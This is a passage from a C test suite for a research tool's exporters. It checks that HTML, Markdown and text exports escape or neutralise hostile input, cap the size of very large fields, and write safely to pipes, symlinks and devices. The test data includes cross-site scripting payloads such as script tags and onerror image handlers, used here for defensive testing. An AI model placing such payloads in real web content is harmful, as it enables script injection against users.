            g_assert_true (g_regex_match_simple ("^[a-z0-9-]+$", value, 0, 0));
          else if (strcmp (name, "dir") == 0)
            g_assert_cmpstr (value, ==, "auto");
          else
            g_assert_true (g_strv_contains ((const char *[]) { "lang", "name", "content", "aria-hidden",
                                                                "aria-label", "rel", "http-equiv", NULL },
                                            name));
        }
    }
  g_assert_cmpuint (styles, ==, 1);

  /* The hostile text, as text. */
  {
    xmlChar *text = xmlNodeGetContent (xmlDocGetRootElement (doc));

    g_assert_nonnull (strstr ((char *) text, "<script>alert(1)</script>"));
    g_assert_nonnull (strstr ((char *) text, "</blockquote></figure><script>alert(2)</script>"));
    g_assert_nonnull (strstr ((char *) text, "</aside><script>alert(3)</script>"));
    g_assert_nonnull (strstr ((char *) text, "<img src=x onerror=alert(1)> [t](u) *t*"));
    g_assert_nonnull (strstr ((char *) text, "<!-- hidden -->"));
    g_assert_null (strstr ((char *) text, "\x1b"));
    xmlFree (text);
  }
  xmlFreeDoc (doc);
}

/* Hostile titles, tag names, headings, quotes and memos, in every
 * grouping and memo style: Markdown and HTML stay inert, plain text loses
 * only control characters. */
static void
test_summaries_hostile (void)
{
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  DossierProject *project = hostile_project (&dir, &path);
  const DossierExportGrouping groupings[] = { DOSSIER_EXPORT_GROUP_BY_DOCUMENT, DOSSIER_EXPORT_GROUP_BY_TAG };
  const DossierExportMemos memos[] = { DOSSIER_EXPORT_MEMOS_NOTES, DOSSIER_EXPORT_MEMOS_FOOTNOTES };

  for (guint g = 0; g < G_N_ELEMENTS (groupings); g++)
    for (guint m = 0; m < G_N_ELEMENTS (memos); m++)
      {
        g_autofree char *md = export_with (project, DOSSIER_EXPORT_MARKDOWN, groupings[g], memos[m]);
        g_autofree char *html = export_with (project, DOSSIER_EXPORT_HTML, groupings[g], memos[m]);
        g_autofree char *txt = export_with (project, DOSSIER_EXPORT_TEXT, groupings[g], memos[m]);

        assert_markdown_hostile (md);
        assert_html_inert (html);
        g_assert_null (strstr (txt, "\x1b"));
        g_assert_null (strstr (txt, "\x07"));
        g_assert_nonnull (strstr (txt, "“<!-- hidden --> <img src=x onerror=alert(1)>"));
      }

  test_finish_project (&project, &dir, &path);
}

/* ---- HTML -------------------------------------------------------------- */

static void
test_html_escaping (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *html = export_ok (f, DOSSIER_EXPORT_HTML, 0, 0);
  g_autofree char *lower = g_ascii_strdown (html, -1);

  g_assert_true (g_str_has_prefix (html, "<!DOCTYPE html>\n<html lang=\"en\">"));
  /* Exactly one charset declaration, and it says UTF-8. */
  g_assert_nonnull (strstr (lower, "charset=utf-8"));
  g_assert_null (strstr (strstr (lower, "charset=") + 1, "charset="));
  g_assert_nonnull (strstr (html, "<style>"));

  /* Inert: no script element, no event handler, no injected image. */
  g_assert_null (strstr (lower, "<script"));
  g_assert_null (strstr (lower, "<img"));
  g_assert_null (strstr (lower, "<b>"));
  g_assert_nonnull (strstr (html, "&lt;script&gt;alert('x')&lt;/script&gt; &amp; ampersands"));
  g_assert_nonnull (strstr (html, "&lt;b&gt;bold&lt;/b&gt; &amp; &lt;img src=x onerror=alert(1)&gt;"));
  g_assert_nonnull (strstr (html, "<title>Harbour “Test” &lt;Project&gt; &amp; Co</title>"));
  g_assert_nonnull (strstr (html, "The Quay &lt;Gazette&gt;"));
  /* The source URL is a link, its "&" escaped in the attribute. */
  g_assert_true (strstr (html, "href=\"https://news.example/a?x=1&amp;y=%3C2%3E\"") != NULL ||
                 strstr (html, "href=\"https://news.example/a?x=1&amp;y=&lt;2&gt;\"") != NULL);

  /* Quotes, positions, memos, tag colours. */
  g_assert_nonnull (strstr (html, "Amélie Žáková, who runs the bakery 🥐 by the quay"));
  g_assert_null (strstr (html, "characters "));
  g_assert_nonnull (strstr (html, "border-left-color:#e66100"));
  g_assert_nonnull (strstr (html, "People/Business owners"));
  /* A quote over two paragraphs is two <p>. */
  g_assert_nonnull (strstr (html, "had asked the ferry crews.</p>"));
}

static const char html_check[] =
  "import sys\n"
  "from html.parser import HTMLParser\n"
  "VOID = {'meta', 'br', 'img', 'link', 'hr', 'input'}\n"
  "class P(HTMLParser):\n"
  "    def __init__(self):\n"
  "        super().__init__(convert_charrefs=True)\n"
  "        self.stack = []; self.quotes = []; self.inq = 0; self.buf = ''\n"
  "    def handle_starttag(self, tag, attrs):\n"
  "        assert tag != 'script', 'script element'\n"
  "        assert not any(a.startswith('on') for a, v in attrs), attrs\n"
  "        if tag not in VOID: self.stack.append(tag)\n"
  "        if tag == 'blockquote': self.inq += 1; self.buf = ''\n"
  "        if tag == 'p' and self.inq and self.buf: self.buf += '\\n\\n'\n"
  "    def handle_endtag(self, tag):\n"
  "        if tag in VOID: return\n"
  "        assert self.stack and self.stack[-1] == tag, (self.stack, tag)\n"
  "        self.stack.pop()\n"
  "        if tag == 'blockquote': self.inq -= 1; self.quotes.append(self.buf)\n"
  "    def handle_data(self, data):\n"
  "        if self.inq and self.stack[-1] == 'p': self.buf += data\n"
  "p = P(); p.feed(open(sys.argv[1], encoding='utf-8').read()); p.close()\n"
  "assert not p.stack, p.stack\n"
  "for q in p.quotes: print(repr(q))\n";

static void
test_html_structure (Fixture       *f,
                     gconstpointer  data)
{
  g_autofree char *html = export_ok (f, DOSSIER_EXPORT_HTML, 0, 0);
  g_autofree char *out = run_python (html_check, html, NULL);

  /* Balanced elements, and each quote reads back exactly as in the text. */
  g_assert_nonnull (strstr (out, "\"<script>alert('x')</script> & ampersands, commas, and\\ttabs.\"\n"));
  g_assert_nonnull (strstr (out, "'Amélie Žáková, who runs the bakery 🥐 by the quay'\n"));
  g_assert_nonnull (strstr (out, "'Critics, led by 王小明 of the Harbour Trust, warned that costs would rise, "
                                 "and that \"nobody\" had asked the ferry crews.\\n\\nA quote'\n"));
}

/* ---- A project from elsewhere: sizes ------------------------------------ */

/* What each export of the sample, its names and texts made a megabyte
 * long behind the core's back, may weigh: the sample's own exports are
 * under 100 KB; one of those texts written whole is over 1 MB. */
#define SIZES_BOUND (400 * 1024)

/* The sample, with a passage of 30,000 characters (longer than
 * DOSSIER_TEXT_MAX_PASSAGE) highlighted, then a title, names, memos,
 * notes and free texts of 1,048,576 characters each, as a crafted file
 * holds them (Dossier itself writes at most 200–20,000). */
static char *
sizes_project (char **dir)
{
  const char *sample = g_getenv ("DOSSIER_SAMPLE_PROJECT");
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GString) long_text = g_string_new (NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(DossierProject) project = NULL;
  g_autoptr(GBytes) bytes = NULL;
  gint64 document, tag = 1;

  g_assert_nonnull (sample);
  *dir = test_make_tmp_dir ("export-sizes");
  path = g_build_filename (*dir, "sizes.dossier", NULL);
  bytes = test_read_bytes (sample);
  g_assert_true (g_file_set_contents (path, g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                                      &error));
  g_assert_no_error (error);

  while (long_text->len < 30000)
    g_string_append (long_text, "The harbour bridge plan. ");
  g_string_append (long_text, "End");
  project = dossier_project_open (path, DOSSIER_OPEN_READ_WRITE, &error);
  g_assert_no_error (error);
  document = add_doc (project, "A long passage", long_text->str);
  exchange_add_highlight (project, document, long_text->str, long_text->str, &tag, 1, "Long.");
  dossier_project_close (project);

#define MEGA "replace (hex (zeroblob (524288)), '0', 'n')"
  test_sql_exec (path,
                 "UPDATE project SET title = " MEGA ";"
                 "UPDATE documents SET title = " MEGA ", author = " MEGA ", outlet = " MEGA ", "
                 "  source = " MEGA " WHERE id = 1;"
                 "UPDATE tags SET name = " MEGA " WHERE id IN (1, 5);"
                 "UPDATE stakeholders SET name = " MEGA ", description = " MEGA ", stance = " MEGA ", "
                 "  interests = " MEGA " WHERE id = 1;"
                 "UPDATE questions SET text = " MEGA " WHERE id = 1;"
                 "UPDATE arguments SET statement = " MEGA " WHERE id = 1;"
                 "UPDATE highlights SET memo = " MEGA " WHERE id = (SELECT min (highlight) "
                 "  FROM highlight_tags);"
                 "UPDATE stakeholder_evidence SET note = " MEGA " WHERE rowid = (SELECT min (rowid) "
                 "  FROM stakeholder_evidence);"
                 "UPDATE argument_evidence SET note = " MEGA " WHERE rowid = (SELECT min (rowid) "
                 "  FROM argument_evidence);"
                 "UPDATE briefings SET title = " MEGA ";");
#undef MEGA
  return g_steal_pointer (&path);
}

/* dossier-cli @command @path @args… -o a file; its bytes. */
static GBytes *
sizes_run (const char *dir,
           const char *path,
           const char *command,
           const char *format,
           const char *more)
{
  g_autofree char *out = g_build_filename (dir, "out", NULL);
  g_auto(TestRun) run = { 0 };

  if (more != NULL)
    test_run_cli (&run, command, path, "--format", format, more, "--allow-unverified", "-o", out, NULL);
  else
    test_run_cli (&run, command, path, "--format", format, "-o", out, NULL);
  if (run.status != 0)
    g_error ("dossier-cli %s --format %s failed: %s", command, format, run.err);
  return test_read_bytes (out);
}

static const char sizes_json_check[] =
  "import json, sys\n"
  "json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "print('ok')\n";

/* Every export of a project whose names, titles, memos and notes are a
 * megabyte long stays small and valid: names and titles shortened to the
 * most Dossier writes in them, "…" at their end; a memo, a note or a
 * passage over its most cut, a note saying so. JSON and REFI-QDA keep
 * every value whole. */
static void
test_sizes_hostile (void)
{
  g_autofree char *dir = NULL;
  g_autofree char *path = sizes_project (&dir);
  const char *summaries[] = { "markdown", "html", "text" };

  for (guint i = 0; i < G_N_ELEMENTS (summaries); i++)
    {
      g_autoptr(GBytes) bytes = sizes_run (dir, path, "export", summaries[i], NULL);
      const char *out = g_bytes_get_data (bytes, NULL);

      g_test_message ("%s: %" G_GSIZE_FORMAT " bytes", summaries[i], g_bytes_get_size (bytes));
      g_assert_cmpuint (g_bytes_get_size (bytes), <, SIZES_BOUND);
      g_assert_true (g_utf8_validate (out, g_bytes_get_size (bytes), NULL));
      g_assert_nonnull (g_strstr_len (out, g_bytes_get_size (bytes), "cut short: the memo is 1048576 characters long"));
      g_assert_nonnull (g_strstr_len (out, g_bytes_get_size (bytes), "cut short: the passage is 30003 characters long"));
      g_assert_nonnull (g_strstr_len (out, g_bytes_get_size (bytes), "cut short: the text is 1048576 characters long"));
      if (strcmp (summaries[i], "html") == 0)
        {
          g_autofree char *copy = g_strndup (out, g_bytes_get_size (bytes));
          g_autofree char *checked = run_python (html_check, copy, NULL);
        }
    }

  /* Briefing notes: the note's title and the cited documents' titles. */
  for (guint i = 0; i < 2; i++)
    {
      g_autoptr(GBytes) bytes = sizes_run (dir, path, "export", i == 0 ? "markdown" : "html",
                                           "--briefing=1");

      g_assert_cmpuint (g_bytes_get_size (bytes), <, SIZES_BOUND);
      if (i == 1)
        {
          g_autofree char *copy = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
          g_autofree char *checked = run_python (html_check, copy, NULL);
        }
    }

  /* CSV: every row of its ten columns; the quote whole (text[start:end]
   * == quote), a memo cut. */
  {
    g_autoptr(GBytes) bytes = sizes_run (dir, path, "export", "csv", NULL);
    g_autofree char *csv = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
    g_autoptr(GPtrArray) rows = parse_csv (csv);
    gboolean long_quote = FALSE;

    g_assert_cmpuint (g_bytes_get_size (bytes), <, SIZES_BOUND);
    g_assert_cmpuint (rows->len, >, 50);
    for (guint r = 0; r < rows->len; r++)
      {
        g_assert_cmpuint (((GPtrArray *) g_ptr_array_index (rows, r))->len, ==, 10);
        g_assert_cmpint (g_utf8_strlen (csv_cell (rows, r, 0), -1), <=, DOSSIER_DOCUMENT_MAX_TITLE);
        g_assert_cmpint (g_utf8_strlen (csv_cell (rows, r, 6), -1), <=, DOSSIER_TEXT_MAX_FREE + 60);
        long_quote |= g_utf8_strlen (csv_cell (rows, r, 5), -1) > DOSSIER_TEXT_MAX_PASSAGE;
      }
    g_assert_true (long_quote);
  }

  /* W3C Web Annotations: the tag's name, in every annotation of the tag,
   * shortened; the memo, an annotation's own, whole (written once). */
  {
    g_autoptr(GBytes) bytes = sizes_run (dir, path, "export", "w3c", NULL);
    g_autofree char *json = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
    g_autofree char *checked = run_python (sizes_json_check, json, NULL);

    g_assert_cmpuint (g_bytes_get_size (bytes), >, 1048576);
    g_assert_cmpuint (g_bytes_get_size (bytes), <, 1048576 + SIZES_BOUND);
  }

  /* JSON keeps every value whole, each once: the contract for programs. */
  {
    g_autoptr(GBytes) bytes = sizes_run (dir, path, "export", "json", NULL);
    g_autofree char *json = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
    g_autofree char *checked = run_python (sizes_json_check, json, NULL);

    g_assert_cmpuint (g_bytes_get_size (bytes), >, 1048576);
    g_assert_cmpuint (g_bytes_get_size (bytes), <, 30 * 1048576);
  }

  /* Compare's matrix and the power/interest grid, as pictures and CSV. */
  {
    const char *pictures[][2] = { { "compare", "svg" }, { "compare", "png" }, { "grid", "svg" },
                                  { "grid", "png" } };

    for (guint i = 0; i < G_N_ELEMENTS (pictures); i++)
      {
        g_autoptr(GBytes) bytes = sizes_run (dir, path, pictures[i][0], pictures[i][1], NULL);

        g_test_message ("%s %s: %" G_GSIZE_FORMAT " bytes", pictures[i][0], pictures[i][1],
                        g_bytes_get_size (bytes));
        g_assert_cmpuint (g_bytes_get_size (bytes), <, SIZES_BOUND);
        if (strcmp (pictures[i][1], "svg") == 0)
          {
            xmlDocPtr svg = xmlReadMemory (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                                           "out.svg", NULL, XML_PARSE_NONET);

            g_assert_nonnull (svg);
            xmlFreeDoc (svg);
          }
        else
          g_assert_true (g_str_has_prefix (g_bytes_get_data (bytes, NULL), "\x89PNG"));
      }
  }
  {
    g_autoptr(GBytes) bytes = sizes_run (dir, path, "compare", "csv", NULL);
    g_autofree char *csv = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
    g_autoptr(GPtrArray) rows = parse_csv (csv);
    guint columns = ((GPtrArray *) g_ptr_array_index (rows, 0))->len;

    g_assert_cmpuint (g_bytes_get_size (bytes), <, SIZES_BOUND);
    g_assert_cmpuint (columns, >, 5);
    for (guint r = 0; r < rows->len; r++)
      g_assert_cmpuint (((GPtrArray *) g_ptr_array_index (rows, r))->len, ==, columns);
  }

  remove_tree (dir);
}

/* ---- Files ------------------------------------------------------------- */

static guint
count_files (const char *dir)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  guint n = 0;

  g_assert_nonnull (d);
  while (g_dir_read_name (d) != NULL)
    n++;
  return n;
}

static void
test_to_file (Fixture       *f,
              gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *out_dir = g_build_filename (f->dir, "out", NULL);
  g_autofree char *path = g_build_filename (out_dir, "summary.md", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *expected = export_ok (f, DOSSIER_EXPORT_MARKDOWN, 0, 0);
  struct stat st;

  g_assert_cmpint (g_mkdir (out_dir, 0755), ==, 0);

  g_assert_true (g_file_set_contents (path, "old contents", -1, NULL));
  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_MARKDOWN, NULL, NULL, path, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, expected);
  /* Only the file itself: no temporary left beside it. */
  g_assert_cmpuint (count_files (out_dir), ==, 1);
  /* An ordinary file, readable as the umask allows, not mkstemp's 0600. */
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0644, ==, 0644);
}

/* An export never replaces a Dossier project: the one exported (by its
 * name, or a link to it), its log, shared memory or lock file, or
 * another project. Each is refused naming it, and is as it was. */
static void
test_to_file_project (Fixture       *f,
                      gconstpointer  data)
{
  g_autofree char *link = g_build_filename (f->dir, "link.json", NULL);
  g_autofree char *wal = g_strconcat (f->path, "-wal", NULL);
  g_autofree char *lock = g_strconcat (f->path, ".lock", NULL);
  g_autofree char *other = g_build_filename (f->dir, "other.dossier", NULL);
  g_autoptr(TestFiles) before = NULL;
  g_autoptr(TestFiles) other_before = NULL;
  const char *destinations[] = { f->path, link, wal, lock, other };

  test_make_project (other, "Another project's text.\n");
  g_assert_cmpint (symlink (f->path, link), ==, 0);
  g_assert_true (g_file_test (wal, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (lock, G_FILE_TEST_EXISTS));
  before = test_files_snapshot (f->path);
  other_before = test_files_snapshot (other);

  for (guint i = 0; i < G_N_ELEMENTS (destinations); i++)
    {
      g_autoptr(GError) error = NULL;

      g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL,
                                              destinations[i], NULL, &error));
      g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
      g_assert_nonnull (strstr (error->message, destinations[i]));
      g_assert_nonnull (strstr (error->message, "Dossier project"));
    }

  test_files_assert_same_data (before);
  test_files_assert_same (other_before);
  g_assert_cmpuint (g_list_model_get_n_items (dossier_project_get_documents (f->project)), ==, 2);
}

static void
test_to_file_failures (Fixture       *f,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autofree char *out_dir = g_build_filename (f->dir, "out2", NULL);
  g_autofree char *path = g_build_filename (out_dir, "export.json", NULL);
  g_autofree char *missing = g_build_filename (f->dir, "no-such-folder", "export.json", NULL);
  g_autofree char *under_file = g_build_filename (f->path, "export.json", NULL);
  g_autofree char *contents = NULL;
  DossierExportFilter bad_filter = { 4242, 0 };

  g_assert_cmpint (g_mkdir (out_dir, 0755), ==, 0);
  g_assert_true (g_file_set_contents (path, "previous export", -1, NULL));

  /* A folder that does not exist: an I/O error naming the path, and
   * saying what is wrong in words. */
  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, missing, NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, missing));
  g_assert_nonnull (strstr (error->message, "its folder does not exist"));
  g_clear_error (&error);

  /* A path under a regular file. */
  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, under_file, NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, under_file));
  g_assert_nonnull (strstr (error->message, "its folder does not exist"));
  g_clear_error (&error);

  /* A folder as the destination. */
  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, out_dir, NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, out_dir));
  g_clear_error (&error);
  g_assert_true (g_file_test (out_dir, G_FILE_TEST_IS_DIR));

  /* Cancelled, and a filter naming nothing: the previous file is intact
   * and no temporary file is left. */
  g_cancellable_cancel (cancellable);
  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, path, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);

  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, &bad_filter, NULL, path, NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_NOT_FOUND);
  g_clear_error (&error);

  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "previous export");
  g_assert_cmpuint (count_files (out_dir), ==, 1);

  /* /dev/full: every write fails with ENOSPC, through the stream API. */
  if (g_file_test ("/dev/full", G_FILE_TEST_EXISTS))
    {
      g_autoptr(GFile) full = g_file_new_for_path ("/dev/full");
      g_autoptr(GFileOutputStream) stream = g_file_append_to (full, G_FILE_CREATE_NONE, NULL, NULL);

      if (stream != NULL)
        {
          g_assert_false (dossier_export_to_stream (f->project, DOSSIER_EXPORT_JSON, NULL, NULL,
                                                    G_OUTPUT_STREAM (stream), NULL, &error));
          g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
          g_clear_error (&error);
        }
    }
}

/* Reads a pipe to its end in a thread, as `cat FIFO` would. */
typedef struct
{
  char    *path;  /* a FIFO to open, or NULL to read @fd */
  int      fd;
  GString *data;
} PipeReader;

static gpointer
read_pipe (gpointer user_data)
{
  PipeReader *reader = user_data;
  int fd = reader->path != NULL ? open (reader->path, O_RDONLY | O_CLOEXEC) : reader->fd;
  char buf[4096];
  gssize n;

  g_assert_cmpint (fd, >=, 0);
  while ((n = read (fd, buf, sizeof buf)) > 0)
    g_string_append_len (reader->data, buf, n);
  close (fd);
  return NULL;
}

static void
assert_file_type (const char *path,
                  mode_t      type)
{
  struct stat st;

  g_assert_cmpint (lstat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & S_IFMT, ==, type);
}

/* What is not a regular file is never replaced by one: pipes and devices
 * are written through, links followed, the rest refused. */
static void
test_to_file_kinds (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *expected = export_ok (f, DOSSIER_EXPORT_CSV, 0, 0);
  g_autofree char *dir = g_build_filename (f->dir, "kinds", NULL);
  g_autofree char *fifo = g_build_filename (dir, "pipe.csv", NULL);
  g_autofree char *target = g_build_filename (dir, "target.csv", NULL);
  g_autofree char *link = g_build_filename (dir, "link.csv", NULL);
  g_autofree char *chain = g_build_filename (dir, "chain.csv", NULL);
  g_autofree char *dangling = g_build_filename (dir, "dangling.csv", NULL);
  g_autofree char *created = g_build_filename (dir, "created-by-link.csv", NULL);
  g_autofree char *loop_a = g_build_filename (dir, "loop-a", NULL);
  g_autofree char *loop_b = g_build_filename (dir, "loop-b", NULL);
  g_autofree char *subdir = g_build_filename (dir, "folder.csv", NULL);
  g_autofree char *dir_link = g_build_filename (dir, "folder-link.csv", NULL);
  g_autofree char *read_only = g_build_filename (dir, "read-only.csv", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *link_target = NULL;
  struct stat st;

  g_assert_cmpint (g_mkdir (dir, 0755), ==, 0);

  /* A FIFO: written through to its reader, still a FIFO, nothing beside. */
  {
    PipeReader reader = { fifo, -1, g_string_new (NULL) };
    GThread *thread;

    g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
    thread = g_thread_new ("reader", read_pipe, &reader);
    g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, fifo, NULL, &error));
    g_assert_no_error (error);
    g_thread_join (thread);
    g_assert_cmpstr (reader.data->str, ==, expected);
    g_string_free (reader.data, TRUE);
    assert_file_type (fifo, S_IFIFO);
    g_assert_cmpuint (count_files (dir), ==, 1);
  }

  /* /dev/null: a character device, written through, left as it is. */
  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, "/dev/null",
                                         NULL, &error));
  g_assert_no_error (error);
  assert_file_type ("/dev/null", S_IFCHR);

  /* A descriptor by name (/dev/fd/N, /proc/self/fd/N), as /dev/stdout. */
  {
    const char *forms[] = { "/dev/fd/", "/proc/self/fd/" };

    for (guint i = 0; i < G_N_ELEMENTS (forms); i++)
      {
        PipeReader reader = { NULL, -1, g_string_new (NULL) };
        g_autofree char *name = NULL;
        GThread *thread;
        int fds[2];

        g_assert_cmpint (pipe (fds), ==, 0);
        reader.fd = fds[0];
        name = g_strdup_printf ("%s%d", forms[i], fds[1]);
        thread = g_thread_new ("reader", read_pipe, &reader);
        g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, name,
                                               NULL, &error));
        g_assert_no_error (error);
        close (fds[1]);
        g_thread_join (thread);
        g_assert_cmpstr (reader.data->str, ==, expected);
        g_string_free (reader.data, TRUE);
      }
  }

  /* A symbolic link (through another): the target is replaced, keeping
   * its permissions, and both links stay links to it. */
  g_assert_true (g_file_set_contents (target, "old", -1, NULL));
  g_assert_cmpint (g_chmod (target, 0600), ==, 0);
  g_assert_cmpint (symlink ("target.csv", link), ==, 0);
  g_assert_cmpint (symlink (link, chain), ==, 0);
  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, chain, NULL, &error));
  g_assert_no_error (error);
  assert_file_type (link, S_IFLNK);
  assert_file_type (chain, S_IFLNK);
  link_target = g_file_read_link (link, NULL);
  g_assert_cmpstr (link_target, ==, "target.csv");
  g_assert_true (g_file_get_contents (target, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, expected);
  g_clear_pointer (&contents, g_free);
  g_assert_cmpint (g_stat (target, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  /* A link to a name that does not exist yet: the file is made there. */
  g_assert_cmpint (symlink ("created-by-link.csv", dangling), ==, 0);
  g_assert_true (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, dangling,
                                         NULL, &error));
  g_assert_no_error (error);
  assert_file_type (dangling, S_IFLNK);
  assert_file_type (created, S_IFREG);
  g_assert_true (g_file_get_contents (created, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, expected);
  g_clear_pointer (&contents, g_free);

  /* A loop of links, a folder and a link to it, a read-only file:
   * refused with a message naming the path; all left as they were. */
  g_assert_cmpint (symlink ("loop-b", loop_a), ==, 0);
  g_assert_cmpint (symlink ("loop-a", loop_b), ==, 0);
  g_assert_cmpint (g_mkdir (subdir, 0755), ==, 0);
  g_assert_cmpint (symlink ("folder.csv", dir_link), ==, 0);
  g_assert_true (g_file_set_contents (read_only, "keep me", -1, NULL));
  g_assert_cmpint (g_chmod (read_only, 0444), ==, 0);
  {
    const char *refused[] = { loop_a, subdir, dir_link, read_only };

    for (guint i = 0; i < G_N_ELEMENTS (refused); i++)
      {
        g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL,
                                                refused[i], NULL, &error));
        g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
        g_assert_nonnull (strstr (error->message, refused[i]));
        g_clear_error (&error);
      }
  }
  assert_file_type (loop_a, S_IFLNK);
  assert_file_type (subdir, S_IFDIR);
  assert_file_type (dir_link, S_IFLNK);
  g_assert_true (g_file_get_contents (read_only, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "keep me");
  g_clear_pointer (&contents, g_free);

  /* Nothing left behind: no temporary file anywhere. */
  g_assert_cmpuint (count_files (dir), ==, 11);
  g_assert_cmpint (g_chmod (read_only, 0644), ==, 0);
}

static gpointer
cancel_soon (gpointer user_data)
{
  g_usleep (50 * 1000);
  g_cancellable_cancel (user_data);
  return NULL;
}

/* A FIFO that nobody reads: the export waits for a reader (as a shell
 * redirection would) and a cancel ends the wait; the FIFO stays. */
static void
test_to_fifo_cancelled (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autofree char *fifo = g_build_filename (f->dir, "nobody-reads", NULL);
  GThread *thread;

  g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
  thread = g_thread_new ("cancel", cancel_soon, cancellable);
  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, fifo,
                                          cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_thread_join (thread);
  assert_file_type (fifo, S_IFIFO);
}

/* Device nodes: as root (who could destroy them) with nodes made for the
 * test: a "full" device reports the error and stays a device, a "null"
 * one takes the export, a block device and a socket are refused. Without
 * root, a socket only. */
static void
test_to_devices (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *full = g_build_filename (f->dir, "full", NULL);
  g_autofree char *null = g_build_filename (f->dir, "null", NULL);
  g_autofree char *block = g_build_filename (f->dir, "block", NULL);
  g_autofree char *socket_path = g_build_filename (f->dir, "socket", NULL);
  g_autoptr(GSocket) sock = NULL;
  g_autoptr(GSocketAddress) address = NULL;
  struct stat st;

  sock = g_socket_new (G_SOCKET_FAMILY_UNIX, G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_DEFAULT, &error);
  g_assert_no_error (error);
  address = g_unix_socket_address_new (socket_path);
  g_assert_true (g_socket_bind (sock, address, FALSE, &error));
  g_assert_no_error (error);
  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_CSV, NULL, NULL, socket_path,
                                          NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, "socket"));
  g_clear_error (&error);
  assert_file_type (socket_path, S_IFSOCK);

  if (geteuid () != 0)
    {
      g_test_message ("not root: device nodes cannot be made; the FIFO tests cover write-through");
      return;
    }

  /* Linux's memory devices: 1,7 is full, 1,3 null; 1,0 is a RAM disk
   * block device, never opened here. */
  g_assert_cmpint (mknod (full, S_IFCHR | 0666, makedev (1, 7)), ==, 0);
  g_assert_cmpint (mknod (null, S_IFCHR | 0666, makedev (1, 3)), ==, 0);
  g_assert_cmpint (mknod (block, S_IFBLK | 0600, makedev (1, 0)), ==, 0);

  g_assert_false (dossier_export_to_file (f->project, DOSSIER_EXPORT_JSON, NULL, NULL, full,
                                          NULL, &error));
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_IO);
  g_assert_nonnull (strstr (error->message, full));
